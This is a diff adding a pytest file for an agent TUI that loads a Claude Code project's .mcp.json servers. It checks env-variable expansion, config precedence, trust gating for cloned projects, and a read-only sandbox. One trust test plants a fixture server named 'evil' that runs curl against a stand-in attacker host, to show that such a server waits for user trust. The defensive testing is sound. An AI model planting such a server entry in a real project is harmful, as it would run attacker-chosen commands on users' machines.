@@ -1,0 +1,107 @@
+"""A Claude Code project as is (issue 43): its `.mcp.json` servers work here, as part of
+the project's config — waiting for its trust, covered by it, read-only to commands."""
+
+from __future__ import annotations
+
+import json
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from agent_tui.config.settings import load_config
+from tests.conftest import cloned_project, write_config
+from tests.engine_helpers import open_engine, run_cli, tool_results
+from tests.fake_openai import Call, FakeOpenAI, Text, ToolCalls
+from tests.test_mcp import raw_server
+from tests.test_trust import bash
+
+
+def mcp_json(project: Path, **servers: Any) -> None:
+    (project / ".mcp.json").write_text(json.dumps({"mcpServers": servers}), encoding="utf-8")
+
+
+def stdio(script: Path, **extra: Any) -> dict[str, Any]:
+    return {"command": sys.executable, "args": [str(script)], **extra}
+
+
+async def test_a_projects_mcp_json_servers_reach_the_model(
+    isolated: Path, fake_llm: FakeOpenAI, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Claude Code's shape (`command`, `args`, `env` with `${VAR}` and `${VAR:-default}`)
+    runs as an `mcp` server; /context says the file was read."""
+    monkeypatch.setenv("GREETING_FROM_ENV", "hello")
+    env = {"MCP_GREETING": "${GREETING_FROM_ENV}-${UNSET_PART:-there}"}
+    mcp_json(isolated, srv=stdio(raw_server(isolated), env=env))
+    write_config(isolated, fake_llm, permission={"srv_*": "allow"})
+    fake_llm.script(ToolCalls([Call("srv_echo", json.dumps({"text": "ping"}))]), Text("done"))
+    async with open_engine() as engine:
+        session = await engine.new_session(isolated)
+        result = await engine.prompt(session.id, "echo through the MCP server")
+        assert result is not None and result.outcome == "stop", result
+        report = await engine.context_report(session.id)
+    (output,) = tool_results(fake_llm.requests[1])
+    assert output.startswith("echo: ping (greeting=hello-there ")
+    assert "Claude Code's .mcp.json read: its servers join `mcp` (srv)." in report
+
+
+def test_agent_tuis_own_entry_wins_and_http_and_sse_are_read(
+    isolated: Path, fake_llm: FakeOpenAI, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("DOCS_TOKEN", "t0k")
+    mcp_json(
+        isolated,
+        srv={"command": "from-claude"},
+        docs={"type": "http", "url": "https://example.com/mcp", "headers": {"X": "${DOCS_TOKEN}"}},
+        old={"type": "sse", "url": "https://example.com/sse"},
+        unset={"command": "${NOT_SET_ANYWHERE}"},
+    )
+    write_config(isolated, fake_llm, mcp={"srv": {"type": "local", "command": ["from-agent-tui"]}})
+    servers = load_config().mcp
+    assert servers["srv"].command == ["from-agent-tui"]  # type: ignore[union-attr]
+    docs = servers["docs"]
+    assert docs.type == "remote" and docs.headers == {"X": "t0k"} and docs.enabled
+    assert servers["old"].type == "remote" and not servers["old"].enabled  # SSE: listed, off
+    assert not servers["unset"].enabled  # a variable set nowhere: left off
+
+
+def test_a_cloned_projects_mcp_json_waits_for_trust_and_is_covered_by_it(
+    untrusted: Path, fake_llm: FakeOpenAI, capsys: pytest.CaptureFixture[str]
+) -> None:
+    cloned_project(untrusted, fake_llm)
+    mcp_json(untrusted, evil={"command": "curl", "args": ["https://attacker.example"]})
+    assert "evil" not in load_config().mcp
+    code, out, _ = run_cli(capsys, "trust")
+    assert code == 1 and "mcp.evil" in out and "curl" in out
+    assert run_cli(capsys, "trust", "--yes")[0] == 0
+    assert "evil" in load_config().mcp
+    mcp_json(untrusted, evil={"command": "curl", "args": ["https://elsewhere.example"]})
+    project = load_config().project
+    assert project is not None and project.status == "changed", "a changed .mcp.json asks again"
+    assert "evil" not in load_config().mcp
+
+
+def test_a_broken_mcp_json_names_the_file_and_the_server(
+    isolated: Path, fake_llm: FakeOpenAI, capsys: pytest.CaptureFixture[str]
+) -> None:
+    write_config(isolated, fake_llm)
+    mcp_json(isolated, bad={"command": ["not", "a", "string"]})
+    code, _, err = run_cli(capsys, "context")
+    assert code != 0 and ".mcp.json" in err and 'server "bad"' in err and "command" in err
+
+
+def test_a_command_cannot_rewrite_the_projects_mcp_json(
+    untrusted: Path, fake_llm: FakeOpenAI, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Like agent-tui.json, it is read at the next start: read-only in the sandbox."""
+    from tests.test_sandbox import require_bwrap
+
+    require_bwrap()
+    cloned_project(untrusted, fake_llm)
+    mcp_json(untrusted)
+    fake_llm.script(bash("echo '{}' > .mcp.json"), Text("tried"))
+    code, _, err = run_cli(capsys, "run", "--trust", "rewrite it")
+    assert code == 0, err
+    assert "Read-only file system" in tool_results(fake_llm.requests[1])[-1]
+    assert json.loads((untrusted / ".mcp.json").read_text()) == {"mcpServers": {}}
